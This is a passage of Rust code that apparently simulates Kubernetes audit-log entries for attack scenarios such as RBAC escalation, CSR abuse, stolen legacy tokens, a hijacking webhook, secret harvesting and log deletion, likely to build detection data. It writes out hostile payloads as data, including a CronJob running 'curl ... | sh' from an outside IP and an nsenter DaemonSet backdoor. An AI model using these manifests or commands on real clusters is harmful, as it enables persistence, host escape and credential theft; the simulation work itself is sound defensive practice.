        "RBAC: allowed by ClusterRoleBinding \"system:controller:{sa}\" of ClusterRole \"system:controller:{sa}\" to ServiceAccount \"{sa}/kube-system\""
    );
    let minted = Identity::service_account(
        "kube-system",
        sa,
        Kind::ControlPlane,
        Token::Unbound {
            seed: hash_str("minted") ^ c.seed(),
            period: 365 * 86_400,
        },
        KUBECTL_129,
        "91.92.242.11",
        &reason,
    );
    step(p, &mut at, 600_000, 2_400_000);
    let tt = step(p, &mut at, 1_000, 5_000);
    req(p, tt, &minted, 0, "", "")
        .target("list", r::CLUSTERROLES, "", "", "")
        .query("limit=500");
    p.commit();
    let tt = step(p, &mut at, 5_000, 30_000);
    let r = req(p, tt, &minted, 0, "", "");
    r.target("patch", r::CLUSTERROLES, "", "view", "");
    let patch = obj! { "rules" => arr![obj! { "verbs" => arr!["get", "list", "watch"], "apiGroups" => arr![""], "resources" => arr!["secrets"] }] };
    patch.write(&mut r.req_obj);
    obj! {
        "kind" => "ClusterRole",
        "apiVersion" => "rbac.authorization.k8s.io/v1",
        "metadata" => obj! { "name" => "view", "uid" => uid_of("clusterrole/view"), "resourceVersion" => c.rv(tt).to_string(), "creationTimestamp" => body::time(objects::created_at(c, "view")), "labels" => map(&[("kubernetes.io/bootstrapping", "rbac-defaults"), ("rbac.authorization.k8s.io/aggregate-to-edit", "true")]) },
        "rules" => arr![obj! { "verbs" => arr!["get", "list", "watch"], "apiGroups" => arr![""], "resources" => arr!["secrets"] }],
    }
    .write(&mut r.resp_obj);
    p.commit();
    let tt = step(p, &mut at, 5_000, 30_000);
    req(p, tt, &minted, 0, "", "")
        .target("list", r::SECRETS, "", "", "")
        .query("limit=500")
        .forbid("");
    p.commit();
}

fn csr_abuse(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let h = human(c, "frank");
    let ip = h.ips[1];
    let name = "frank-ops-client";
    let mut pem = b"-----BEGIN CERTIFICATE REQUEST-----\n".to_vec();
    let mut body_bytes = Vec::new();
    for _ in 0..96 {
        body_bytes.extend_from_slice(&p.rng.next_u64().to_le_bytes());
    }
    let b64 = json::base64(&body_bytes);
    for chunk in b64.as_bytes().chunks(64) {
        pem.extend_from_slice(chunk);
        pem.push(b'\n');
    }
    pem.extend_from_slice(b"-----END CERTIFICATE REQUEST-----\n");
    let request = json::base64(&pem);
    let mut at = t;
    let csr = obj! {
        "kind" => "CertificateSigningRequest",
        "apiVersion" => "certificates.k8s.io/v1",
        "metadata" => obj! { "name" => name, "creationTimestamp" => J::Null },
        "spec" => obj! {
            "request" => request.as_str(),
            "signerName" => "kubernetes.io/kube-apiserver-client",
            "expirationSeconds" => 31_536_000,
            "usages" => arr!["digital signature", "key encipherment", "client auth"],
            "username" => "frank@example.com",
            "groups" => arr!["sre-oncall", "system:authenticated"],
        },
        "status" => obj! {},
    };
    let r = req(p, at, &h.id, 0, ip, "");
    r.target("create", r::CSRS, "", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
    csr.write(&mut r.req_obj);
    p.commit();
    let t1 = step(p, &mut at, 10_000, 60_000);
    let r = req(p, t1, &h.id, 0, ip, "");
    r.target("update", r::CSRS, "", name, "approval");
    obj! {
        "kind" => "CertificateSigningRequest",
        "apiVersion" => "certificates.k8s.io/v1",
        "metadata" => obj! { "name" => name, "uid" => uid_of(name), "resourceVersion" => c.rv(t1).to_string(), "creationTimestamp" => body::time(t) },
        "spec" => obj! {
            "request" => request.as_str(),
            "signerName" => "kubernetes.io/kube-apiserver-client",
            "expirationSeconds" => 31_536_000,
            "usages" => arr!["digital signature", "key encipherment", "client auth"],
            "username" => "frank@example.com",
            "groups" => arr!["sre-oncall", "system:authenticated"],
        },
        "status" => obj! { "conditions" => arr![obj! { "type" => "Approved", "status" => "True", "reason" => "KubectlApprove", "message" => "This CSR was approved by kubectl certificate approve.", "lastUpdateTime" => body::time(t1), "lastTransitionTime" => body::time(t1) }] },
    }
    .write(&mut r.req_obj);
    p.commit();
    let t2 = step(p, &mut at, 3_000, 20_000);
    req(p, t2, &h.id, 0, ip, "").target("get", r::CSRS, "", name, "");
    p.commit();
    let cert_user = Identity::new(
        "ops-admin",
        "",
        &["system:masters", "system:authenticated"],
        Kind::Human,
        Token::None,
        KUBECTL_129,
        "146.70.199.14",
        "",
    );
    step(p, &mut at, 300_000, 1_800_000);
    for (verb, res, ns) in [
        ("list", r::SECRETS, "kube-system"),
        ("list", r::CLUSTERROLEBINDINGS, ""),
        ("list", r::NODES, ""),
    ] {
        let tt = step(p, &mut at, 2_000, 20_000);
        read(p, tt, &cert_user, "", "", verb, res, ns, "");
        p.commit();
    }
}

fn legacy_token_secret(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "5.188.206.14";
    let sa = ctl::NAMES[ctl::GC];
    let secret = format!("{sa}-token");
    let mut at = t;
    req(p, at, &a.admin, 0, ip, KUBECTL_128).target(
        "get",
        r::SERVICEACCOUNTS,
        "kube-system",
        sa,
        "",
    );
    p.commit();
    let t1 = step(p, &mut at, 5_000, 40_000);
    req(p, t1, &a.admin, 0, ip, KUBECTL_128)
        .target("create", r::SECRETS, "kube-system", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
    p.commit();
    // The token controller fills the token in right away.
    let tk = t1 + p.rng.range(30_000, 200_000);
    let kcm = &c.kcm;
    req(p, tk, kcm, 0, "", "").target("update", r::SECRETS, "kube-system", &secret, "");
    p.commit();
    p.context();
    let t2 = step(p, &mut at, 2_000, 10_000);
    req(p, t2, &a.admin, 0, ip, KUBECTL_128).target("get", r::SECRETS, "kube-system", &secret, "");
    p.commit();
    let reason = format!(
        "RBAC: allowed by ClusterRoleBinding \"system:controller:{sa}\" of ClusterRole \"system:controller:{sa}\" to ServiceAccount \"{sa}/kube-system\""
    );
    let legacy = Identity::service_account(
        "kube-system",
        sa,
        Kind::ControlPlane,
        Token::Legacy,
        PYTHON,
        ip,
        &reason,
    );
    step(p, &mut at, 120_000, 900_000);
    let uses: [(&str, crate::request::Res, &str, &str); 3] = [
        ("list", r::SECRETS, "", ""),
        ("get", r::SECRETS, "argocd", "cluster-prod-credentials"),
        ("get", r::SECRETS, "payments", "payments-stripe-api-key"),
    ];
    let mut first = true;
    for (verb, res, ns, name) in uses {
        let tt = step(p, &mut at, 2_000, 30_000);
        let r = read(p, tt, &legacy, "", "", verb, res, ns, name);
        r.annotate("authentication.k8s.io/legacy-token-manual-secret", &secret);
        p.commit();
        if first {
            // The authenticator records the last use date on the secret.
            let tl = tt + p.rng.range(2_000, 9_000);
            let r = req(p, tl, &c.apiserver, 0, "", "");
            r.target("patch", r::SECRETS, "kube-system", &secret, "");
            p.commit();
            p.context();
            first = false;
        }
    }
}

fn webhook_hijack(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "37.120.247.15";
    let mut at = t;
    req(p, at, &a.admin, 0, ip, KUBECTL_128)
        .target("list", r::MUTATINGWEBHOOKS, "", "", "")
        .query("limit=500");
    p.commit();
    let hook = obj! {
        "kind" => "MutatingWebhookConfiguration",
        "apiVersion" => "admissionregistration.k8s.io/v1",
        "metadata" => obj! { "name" => "pod-policy-mutator", "creationTimestamp" => J::Null },
        "webhooks" => arr![obj! {
            "name" => "pods.policy-mutator.io",
            "clientConfig" => obj! { "url" => "https://37.120.247.15:8443/mutate" },
            "rules" => arr![obj! { "operations" => arr!["CREATE"], "apiGroups" => arr![""], "apiVersions" => arr!["v1"], "resources" => arr!["pods"], "scope" => "*" }],
            "failurePolicy" => "Ignore",
            "matchPolicy" => "Equivalent",
            "namespaceSelector" => obj! {},
            "objectSelector" => obj! {},
            "sideEffects" => "None",
            "timeoutSeconds" => 5,
            "admissionReviewVersions" => arr!["v1"],
            "reinvocationPolicy" => "Never",
        }],
    };
    let t1 = step(p, &mut at, 20_000, 90_000);
    let r = req(p, t1, &a.admin, 0, ip, KUBECTL_128);
    r.target("create", r::MUTATINGWEBHOOKS, "", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
    bodies(r, hook, c, t1);
    p.commit();
}

fn policy_weakening(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let h = human(p.c, "bob");
    let ip = h.ips[0];
    let mut at = t;
    req(p, at, &h.id, 0, ip, "")
        .target("list", r::NETWORKPOLICIES, "payments", "", "")
        .query("limit=500");
    p.commit();
    p.context();
    let t1 = step(p, &mut at, 10_000, 60_000);
    let r = req(p, t1, &h.id, 0, ip, "");
    r.target(
        "delete",
        r::NETWORKPOLICIES,
        "payments",
        "default-deny-ingress",
        "",
    );
    objects::delete_options(Some("Background"), None).write(&mut r.req_obj);
    p.commit();
    let t2 = step(p, &mut at, 20_000, 120_000);
    let r = req(p, t2, &h.id, 0, ip, "");
    r.target("patch", r::NAMESPACES, "", "payments", "");
    obj! { "metadata" => obj! { "labels" => map(&[("pod-security.kubernetes.io/enforce", "privileged"), ("pod-security.kubernetes.io/warn", "privileged")]) } }
        .write(&mut r.req_obj);
    p.commit();
}

fn cronjob_persistence(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "146.70.199.14";
    let mut at = t;
    req(p, at, &a.admin, 0, ip, KUBECTL_128)
        .target("list", r::CRONJOBS, "kube-system", "", "")
        .query("limit=500");
    p.commit();
    let mut spec = host_pod_spec(
        "docker.io/library/alpine:3.19",
        "sync",
        &[
            "/bin/sh",
            "-c",
            "apk add --no-cache curl >/dev/null && curl -fsSL http://146.70.199.14/k.sh | sh",
        ],
        "",
    );
    spec.restart_policy = "OnFailure".into();
    spec.host_network = false;
    let cj = obj! {
        "kind" => "CronJob",
        "apiVersion" => "batch/v1",
        "metadata" => body::meta("kube-proxy-metrics-sync", "kube-system", map(&[("k8s-app", "kube-proxy")])),
        "spec" => obj! {
            "schedule" => "*/10 * * * *",
            "concurrencyPolicy" => "Forbid",
            "suspend" => false,
            "jobTemplate" => obj! { "metadata" => obj! { "creationTimestamp" => J::Null }, "spec" => obj! { "template" => obj! { "metadata" => obj! { "creationTimestamp" => J::Null }, "spec" => spec.to_j() } } },
            "successfulJobsHistoryLimit" => 1,
            "failedJobsHistoryLimit" => 1,
        },
        "status" => obj! {},
    };
    let t1 = step(p, &mut at, 30_000, 120_000);
    let r = req(p, t1, &a.admin, 0, ip, KUBECTL_128);
    r.target("create", r::CRONJOBS, "kube-system", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
    bodies(r, cj, c, t1);
    p.commit();
}

fn daemonset_backdoor(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "185.100.87.41";
    let mut at = t;
    req(p, at, &a.admin, 0, ip, KUBECTL_128)
        .target("list", r::DAEMONSETS, "kube-system", "", "")
        .query("limit=500");
    p.commit();
    let spec = host_pod_spec(
        "ghcr.io/n0de-tools/exporter:latest",
        "exporter",
        &[
            "nsenter",
            "--target",
            "1",
            "--mount",
            "--uts",
            "--ipc",
            "--net",
            "--pid",
            "--",
            "/bin/sh",
            "-c",
            "while true; do sleep 3600; done",
        ],
        "",
    );
    let ds = objects::daemonset(
        "node-problem-exporter",
        "kube-system",
        map(&[("k8s-app", "node-problem-exporter")]),
        &spec,
    );
    let t1 = step(p, &mut at, 20_000, 90_000);
    let r = req(p, t1, &a.admin, 0, ip, KUBECTL_128);
    r.target("create", r::DAEMONSETS, "kube-system", "", "")
        .query("fieldManager=kubectl-client-side-apply&fieldValidation=Strict");
    bodies(r, ds, c, t1);
    p.commit();
}

fn discovery_sweep(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let who = c.app_identity(c.app_named("storefront-web"));
    let mut at = t;
    discovery(p, &mut at, &who, 0, "", KUBECTL_130);
    let kinds: [(crate::request::Res, &str); 14] = [
        (r::NAMESPACES, ""),
        (r::NODES, ""),
        (r::PODS, "storefront"),
        (r::SECRETS, "storefront"),
        (r::CONFIGMAPS, "storefront"),
        (r::SERVICEACCOUNTS, "storefront"),
        (r::ROLES, "storefront"),
        (r::ROLEBINDINGS, "storefront"),
        (r::CLUSTERROLES, ""),
        (r::CLUSTERROLEBINDINGS, ""),
        (r::DEPLOYMENTS, "storefront"),
        (r::DAEMONSETS, "kube-system"),
        (r::SECRETS, "kube-system"),
        (r::NETWORKPOLICIES, "storefront"),
    ];
    for (res, ns) in kinds {
        let tt = step(p, &mut at, 500, 4_000);
        req(p, tt, &who, 0, "", KUBECTL_130)
            .target("list", res, ns, "", "")
            .query("limit=500")
            .forbid("");
        p.commit();
    }
}

fn forbidden_burst(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let who = c.app_identity(c.app_named("report-exporter"));
    let ip = "193.142.146.35";
    let kinds = [
        r::SECRETS,
        r::PODS,
        r::NODES,
        r::CONFIGMAPS,
        r::DEPLOYMENTS,
        r::CLUSTERROLES,
        r::SERVICEACCOUNTS,
        r::NAMESPACES,
    ];
    let mut at = t;
    for i in 0..40 {
        let res = kinds[i % kinds.len()];
        let ns = if matches!(res.resource, "nodes" | "clusterroles" | "namespaces") {
            ""
        } else {
            crate::cluster::NAMESPACES[(i * 7) % crate::cluster::NAMESPACES.len()]
        };
        let tt = step(p, &mut at, 500, 8_000);
        req(p, tt, &who, 0, ip, "python-requests/2.31.0")
            .target("list", res, ns, "", "")
            .forbid("");
        p.commit();
    }
}

fn slow_secret_harvest(p: &mut Plan<'_>, _: &Actors, _: i64) {
    let c = p.c;
    let h = human(c, "gina");
    let reason = "RBAC: allowed by ClusterRoleBinding \"analytics-secret-reader\" of ClusterRole \"secret-reader\" to Group \"team-analytics\"";
    let mut targets: Vec<(&str, &str)> = Vec::new();
    for ns in [
        "payments",
        "identity",
        "orders",
        "catalog",
        "storefront",
        "argocd",
        "monitoring",
        "kube-system",
        "cert-manager",
        "ingress-nginx",
    ] {
        for s in secrets_of(ns) {
            targets.push((ns, s));
        }
    }
    // Fixed shuffle from the plan's stream.
    for i in (1..targets.len()).rev() {
        let j = p.rng.index(i + 1);
        targets.swap(i, j);
    }
    let days = ((c.end - c.start) / DAY_US).max(1);
    let per_day: i64 = if days == 1 { 4 } else { 3 };
    let mut k = 0usize;
    for d in 0..days {
        let day = c.start + d * DAY_US;
        for j in 0..per_day {
            let hour = 9 + j * 8 / per_day;
            let at = day + hour * HOUR_US + p.rng.range(0, 90 * 60 * SEC_US);
            if at >= c.end - 5 * 60 * SEC_US {
                continue;
            }
            let (ns, name) = targets[k % targets.len()];
            k += 1;
            read(p, at, &h.id, h.ips[0], "", "get", r::SECRETS, ns, name).reason(reason);
            p.commit();
        }
    }
}

fn events_deleted(p: &mut Plan<'_>, a: &Actors, t: i64) {
    let c = p.c;
    let ip = "45.155.205.233";
    let mut at = t;
    req(p, at, &a.admin, 0, ip, KUBECTL_128)
        .target("list", r::EVENTS, "kube-system", "", "")
        .query("limit=500");
    p.commit();
    let t1 = step(p, &mut at, 5_000, 30_000);
    let r = req(p, t1, &a.admin, 0, ip, KUBECTL_128);
    r.target("deletecollection", r::EVENTS, "kube-system", "", "");
    objects::delete_options(Some("Background"), None).write(&mut r.req_obj);
    p.commit();
    for k in 0..2u64 {
        let pod = &c.pods[(hash_str("evt") as usize + k as usize) % c.pods.len()];
        let name = format!("{}.{:016x}", pod.name, hash_str(&pod.uid) ^ k);
        let tt = step(p, &mut at, 2_000, 15_000);
        let r = req(p, tt, &a.admin, 0, ip, KUBECTL_128);
        r.target("delete", r::EVENTS, "default", &name, "");
        objects::delete_options(Some("Background"), None).write(&mut r.req_obj);
        p.commit();
    }
}

fn nodeport_exposure(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let h = human(p.c, "erin");
    let ip = h.ips[0];
    let mut at = t;
    req(p, at, &h.id, 0, ip, "")
        .target("list", r::SERVICES, "storefront", "", "")
        .query("limit=500");
    p.commit();
    p.context();
    let t1 = step(p, &mut at, 15_000, 90_000);
    let r = req(p, t1, &h.id, 0, ip, "");
    r.target("create", r::SERVICES, "storefront", "", "")
        .query("fieldManager=kubectl-expose&fieldValidation=Strict");
    obj! {
        "kind" => "Service",
        "apiVersion" => "v1",
        "metadata" => body::meta("storefront-redis-debug", "storefront", map(&[("app.kubernetes.io/name", "storefront-redis")])),
        "spec" => obj! {
            "ports" => arr![obj! { "protocol" => "TCP", "port" => 6379, "targetPort" => 6379, "nodePort" => 31379 }],
            "selector" => map(&[("app.kubernetes.io/name", "storefront-redis")]),
            "type" => "NodePort",
            "externalTrafficPolicy" => "Cluster",
        },
        "status" => obj! { "loadBalancer" => obj! {} },
    }
    .write(&mut r.req_obj);
    p.commit();
}

fn self_review_recon(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let c = p.c;
    let who = c.app_identity(c.app_named("catalog-api"));
    let ua = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350";
    let mut at = t;
    for ns in ["catalog", "default", "kube-system"] {
        let tt = step(p, &mut at, 1_000, 20_000);
        let r = req(p, tt, &who, 0, "", ua);
        r.target("create", r::SELFSUBJECTRULESREVIEWS, "", "", "")
            .reason("RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"");
        obj! {
            "kind" => "SelfSubjectRulesReview",
            "apiVersion" => "authorization.k8s.io/v1",
            "metadata" => obj! { "creationTimestamp" => J::Null },
            "spec" => obj! { "namespace" => ns },
            "status" => obj! { "resourceRules" => J::Null, "nonResourceRules" => J::Null, "incomplete" => false },
        }
        .write(&mut r.req_obj);
        p.commit();
    }
    for (verb, res, sub) in [("list", "secrets", ""), ("create", "pods", "exec")] {
        let tt = step(p, &mut at, 1_000, 20_000);
        let r = req(p, tt, &who, 0, "", ua);
        r.target("create", r::SELFSUBJECTACCESSREVIEWS, "", "", "")
            .reason("RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"");
        let mut attrs = obj! { "namespace" => "catalog", "verb" => verb, "resource" => res };
        if !sub.is_empty() {
            attrs.set("subresource", J::from(sub));
        }
        obj! {
            "kind" => "SelfSubjectAccessReview",
            "apiVersion" => "authorization.k8s.io/v1",
            "metadata" => obj! { "creationTimestamp" => J::Null },
            "spec" => obj! { "resourceAttributes" => attrs },
            "status" => obj! { "allowed" => false },
        }
        .write(&mut r.req_obj);
        p.commit();
    }
}

fn new_source_ip(p: &mut Plan<'_>, _: &Actors, t: i64) {
    let h = human(p.c, "bob");
    let ip = "103.251.167.20";
    let mut at = t;
    let steps: [(&str, crate::request::Res, &str, &str); 5] = [
        ("list", r::SECRETS, "payments", ""),
        ("get", r::SECRETS, "payments", "payments-db-credentials"),
        ("get", r::SECRETS, "payments", "payments-stripe-api-key"),
        ("get", r::SECRETS, "identity", "identity-signing-keys"),
        ("get", r::CONFIGMAPS, "kube-system", "kubeadm-config"),
    ];
    for (verb, res, ns, name) in steps {
        let tt = step(p, &mut at, 2_000, 45_000);
        read(p, tt, &h.id, ip, PYTHON, verb, res, ns, name);
        p.commit();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scenario_names_are_unique_and_categorised() {
        let mut names: Vec<_> = SCENARIOS.iter().map(|s| s.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), SCENARIOS.len());
        assert!(SCENARIOS.len() >= 22);
        assert!(
            SCENARIOS
                .iter()
                .all(|s| !s.category.is_empty() && !s.description.is_empty())
        );
    }
}
